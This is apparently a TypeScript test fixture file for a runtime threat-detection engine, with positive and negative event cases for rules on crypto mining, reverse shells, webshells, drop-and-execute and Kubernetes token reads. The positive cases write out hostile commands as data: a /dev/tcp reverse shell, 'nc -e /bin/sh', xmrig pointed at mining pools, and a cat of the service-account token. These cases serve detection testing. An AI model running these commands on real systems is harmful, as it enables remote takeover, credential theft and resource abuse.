/**
 * Firing and non-firing cases of every `runtime/*` rule (test-only; left out of the build). Each case is
 * a small set of files, like every other domain's cases: `events.ndjson` — Bulwark runtime events, one
 * JSON object per line (the `RuntimeEvent` model, src/runtime/model.ts) — and optionally `pods.json`
 * (a kubelet pod list) and `options.apiServers`. They are not scanned by the engine: run them with
 * `runRuntimeRuleCase` (src/runtime/case-runner.ts), which feeds the events through the same analyzer
 * the agent uses and returns the findings of the rule under test, for `firingProblem` to judge.
 *
 * For the registry meta-test (src/engine/rules-meta.test.ts), the lead adds `RUNTIME_RULE_CASES` to
 * `ALL_RULE_CASES` and dispatches cases whose rule id starts with `runtime/` to `runRuntimeRuleCase`.
 */
import type { RuleCase, RuleCases } from '../rules/index.js';
import { ruleCases } from '../rules/index.js';

const T = '2026-11-20T10:00:00.000Z';
const TRAIN_ID = 'a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90';
const WEB_ID = '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0';
const LLM_ID = '3f1a9d2c7b8e4f5a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c';

const PODS = JSON.stringify({
  kind: 'PodList',
  items: [
    {
      metadata: { uid: '6a1f0f35-1d5b-4f7e-9c3e-2b8a5d7c9e01', namespace: 'ml', name: 'trainer-0' },
      spec: { containers: [{ name: 'train', image: 'nvcr.io/nvidia/pytorch:24.05-py3', command: ['python3', 'train.py'], resources: { limits: { 'nvidia.com/gpu': '1' } } }] },
      status: { containerStatuses: [{ name: 'train', containerID: `containerd://${TRAIN_ID}` }] },
    },
    {
      metadata: { uid: '0b6c2d4e-8f1a-4b3c-9d5e-7f8091a2b3c4', namespace: 'apps', name: 'web-0' },
      spec: { containers: [{ name: 'web', image: 'ghcr.io/acme/web:1.4', command: ['gunicorn', 'app:app'] }] },
      status: { containerStatuses: [{ name: 'web', containerID: `containerd://${WEB_ID}` }] },
    },
    {
      metadata: { uid: 'c4d5e6f7-0819-4a2b-8c3d-4e5f60718293', namespace: 'ml', name: 'llm-0', labels: { 'app.kubernetes.io/component': 'inference' } },
      spec: { containers: [{ name: 'vllm', image: 'vllm/vllm-openai:v0.6.3', resources: { limits: { 'nvidia.com/gpu': '1' } } }] },
      status: { containerStatuses: [{ name: 'vllm', containerID: `containerd://${LLM_ID}` }] },
    },
  ],
});

type Ev = Record<string, unknown>;
const proc = (name: string, args: string[], extra: Ev = {}): Ev => ({ pid: 4242, name, args, ...extra });
const exec = (process: Ev, chain: Ev[] = []): Ev => ({ kind: 'exec', time: T, source: 'proc', path: 'proc:/proc', process, chain });

function events(...evs: Ev[]): string {
  return evs.map((e) => JSON.stringify(e)).join('\n') + '\n';
}

function c(name: string, evs: Ev[], o: { pods?: boolean; apiServers?: string[]; expect?: RuleCase['expect'] } = {}): RuleCase {
  return {
    name,
    files: { 'events.ndjson': events(...evs), ...(o.pods === true && { 'pods.json': PODS }) },
    ...(o.apiServers !== undefined && { options: { apiServers: o.apiServers } }),
    ...(o.expect !== undefined && { expect: o.expect }),
  };
}

const tcp = (address: string, port: number): Ev => ({ protocol: 'tcp', local: { address: '10.244.1.17', port: 40122 }, remote: { address, port }, state: 'ESTABLISHED' });

export const RUNTIME_RULE_CASES: readonly RuleCases[] = [
  ruleCases('runtime/crypto-miner', {
    invalid: [
      c('xmrig with a Stratum pool and --donate-level', [exec(proc('xmrig', ['/tmp/xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', '4ABC', '--donate-level', '1'], { exe: '/tmp/xmrig' }))], { expect: { severity: 'critical', evidenceIncludes: 'stratum URL' } }),
      c('a renamed miner known by its flags', [exec(proc('kworker', ['./kworker', '--algo', 'rx/0', '--cpu-max-threads-hint=90', '-o', 'gulf.moneroocean.stream:10128']))], { expect: { evidenceIncludes: 'miner flag --cpu-max-threads-hint' } }),
    ],
    valid: [c('a training job', [exec(proc('python3', ['python3', 'train.py', '--epochs', '3'], { exe: '/usr/bin/python3.11' }))])],
  }),
  ruleCases('runtime/mining-pool-connection', {
    invalid: [
      c('a connection to a pool port while burning CPU', [{ kind: 'connect', time: T, source: 'proc', path: 'proc:/proc', process: proc('python3', ['python3', 'job.py'], { cpuPercent: 180 }), chain: [], remote: { address: '198.51.100.20', port: 3333 }, protocol: 'tcp' }], { expect: { severity: 'critical' } }),
      c('a connection to a known pool domain (Falco resolved it)', [{ kind: 'connect', time: T, source: 'falco', path: 'falco', process: proc('curl', ['curl']), chain: [], remote: { address: '198.51.100.21', port: 443 }, remoteName: 'xmr.2miners.com', protocol: 'tcp' }], { expect: { severity: 'high' } }),
    ],
    valid: [c('an HTTPS connection', [{ kind: 'connect', time: T, source: 'proc', path: 'proc:/proc', process: proc('python3', ['python3', 'download.py']), chain: [], remote: { address: '198.51.100.22', port: 443 }, protocol: 'tcp' }])],
  }),
  ruleCases('runtime/reverse-shell', {
    invalid: [
      c('bash -i whose stdio is a TCP connection', [exec(proc('bash', ['bash', '-i'], { stdio: [{ fd: 0, socket: tcp('203.0.113.9', 4444) }, { fd: 1, socket: tcp('203.0.113.9', 4444) }, { fd: 2, socket: tcp('203.0.113.9', 4444) }] }), [{ pid: 4200, name: 'python3' }])], { expect: { severity: 'critical', messageIncludes: 'stdin and stdout on a network socket' } }),
      c('a /dev/tcp one-liner', [exec(proc('bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']))], { expect: { severity: 'high', messageIncludes: 'dev-tcp' } }),
      c('nc -e', [exec(proc('nc', ['nc', '203.0.113.9', '4444', '-e', '/bin/sh']))], { expect: { messageIncludes: 'netcat-exec' } }),
    ],
    valid: [
      c('an interactive shell on a terminal', [exec(proc('bash', ['bash', '-i']), [{ name: 'sshd' }])]),
      c('nc used to test a port', [exec(proc('nc', ['nc', '-z', 'db', '5432']))]),
    ],
  }),
  ruleCases('runtime/webshell', {
    invalid: [
      c('sh spawned by uvicorn', [exec(proc('sh', ['sh', '-c', 'id; uname -a']), [{ pid: 100, name: 'uvicorn', args: ['uvicorn', 'app:app'] }])], { expect: { messageIncludes: 'spawned by server uvicorn' } }),
      c('pip spawned by a listening Python server', [exec(proc('pip', ['pip', 'install', 'x']), [{ pid: 100, name: 'python3.11', args: ['python3', 'serve.py'], listening: true }])]),
    ],
    valid: [
      c('sh started from an operator shell', [exec(proc('sh', ['sh', '-c', 'ls']), [{ name: 'bash' }, { name: 'sshd' }])]),
      c('a Python worker (not a shell) started by gunicorn', [exec(proc('python3', ['python3', '-m', 'worker']), [{ name: 'gunicorn' }])]),
    ],
  }),
  ruleCases('runtime/drop-and-execute', {
    invalid: [
      c('a binary run from /tmp', [exec(proc('payload', ['/tmp/.x/payload'], { exe: '/tmp/.x/payload' }))], { expect: { severity: 'high' } }),
      c('a memfd exec', [exec(proc('3', ['3'], { exe: '/memfd:payload', exeMemfd: true }))], { expect: { severity: 'critical' } }),
      c("a binary written into the container's writable layer", [exec(proc('fake-binary', ['fake-binary'], { exe: '/usr/local/bin/fake-binary', exeUpperLayer: true }))]),
    ],
    valid: [
      c('a program from the image', [exec(proc('python3', ['python3'], { exe: '/usr/bin/python3.11' }))]),
      c('runc re-executing itself from its sealed memfd', [exec(proc('runc', ['runc', 'init'], { exe: '/memfd:runc_cloned:/proc/self/exe', exeMemfd: true }))]),
    ],
  }),
  ruleCases('runtime/sa-token-read', {
    invalid: [c('cat reads the token', [{ kind: 'file-open', time: T, source: 'tetragon', path: 'tetragon', process: proc('cat', ['/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], { container: { id: WEB_ID } }), chain: [], file: '/var/run/secrets/kubernetes.io/serviceaccount/token' }], { pods: true, expect: { messageIncludes: 'in pod apps/web-0 container web' } })],
    valid: [
      c('the workload itself (the pod spec command) reads it', [{ kind: 'file-open', time: T, source: 'tetragon', path: 'tetragon', process: proc('gunicorn', ['gunicorn', 'app:app'], { container: { id: WEB_ID } }), chain: [], file: '/var/run/secrets/kubernetes.io/serviceaccount/token' }], { pods: true }),
      c('cat reads another file', [{ kind: 'file-open', time: T, source: 'tetragon', path: 'tetragon', process: proc('cat', ['cat', '/etc/hosts']), chain: [], file: '/etc/hosts' }]),
    ],
  }),
  ruleCases('runtime/gpu-without-request', {
    invalid: [c('a GPU process in a pod without GPUs', [{ kind: 'gpu-use', time: T, source: 'nvidia-smi', path: 'nvidia-smi.csv', process: proc('python3', ['python3', 'x.py'], { container: { id: WEB_ID } }), chain: [], gpu: { usedMemoryMiB: 6294 } }], { pods: true, expect: { messageIncludes: 'requested none' } })],
    valid: [c('the training pod that asked for a GPU', [{ kind: 'gpu-use', time: T, source: 'nvidia-smi', path: 'nvidia-smi.csv', process: proc('python3', ['python3', 'train.py'], { container: { id: TRAIN_ID } }), chain: [], gpu: { usedMemoryMiB: 30000 } }], { pods: true })],
  }),
  ruleCases('runtime/unexpected-gpu-process', {
    invalid: [c('xmrig on the training pod’s GPU', [{ kind: 'gpu-use', time: T, source: 'nvidia-smi', path: 'nvidia-smi.csv', process: proc('xmrig-cuda', ['/tmp/xmrig-cuda'], { container: { id: TRAIN_ID } }), chain: [{ name: 'sh' }], gpu: { usedMemoryMiB: 2048 } }], { pods: true })],
    valid: [
      c('the training script', [{ kind: 'gpu-use', time: T, source: 'nvidia-smi', path: 'nvidia-smi.csv', process: proc('python3', ['python3', 'train.py'], { container: { id: TRAIN_ID } }), chain: [], gpu: {} }], { pods: true }),
      c('a DataLoader worker of the training script', [{ kind: 'gpu-use', time: T, source: 'nvidia-smi', path: 'nvidia-smi.csv', process: proc('pt_data_worker', ['python3', '-c', 'from multiprocessing.spawn import spawn_main'], { container: { id: TRAIN_ID } }), chain: [{ name: 'python3', args: ['python3', 'train.py'] }], gpu: {} }], { pods: true }),
    ],
  }),
  ruleCases('runtime/cluster-api-from-inference', {
    invalid: [c('the model server calls the API server', [{ kind: 'connect', time: T, source: 'tetragon', path: 'tetragon', process: proc('python3', ['python3', '-m', 'vllm.entrypoints.openai.api_server'], { container: { id: LLM_ID } }), chain: [], remote: { address: '10.96.0.1', port: 443 }, protocol: 'tcp' }], { pods: true, apiServers: ['10.96.0.1'] })],
    valid: [
      c('a controller pod (not inference) calls the API server', [{ kind: 'connect', time: T, source: 'tetragon', path: 'tetragon', process: proc('gunicorn', ['gunicorn', 'app:app'], { container: { id: WEB_ID } }), chain: [], remote: { address: '10.96.0.1', port: 443 }, protocol: 'tcp' }], { pods: true, apiServers: ['10.96.0.1'] }),
      c('the model server calls another service', [{ kind: 'connect', time: T, source: 'tetragon', path: 'tetragon', process: proc('python3', ['python3'], { container: { id: LLM_ID } }), chain: [], remote: { address: '10.96.4.20', port: 443 }, protocol: 'tcp' }], { pods: true, apiServers: ['10.96.0.1'] }),
    ],
  }),
];
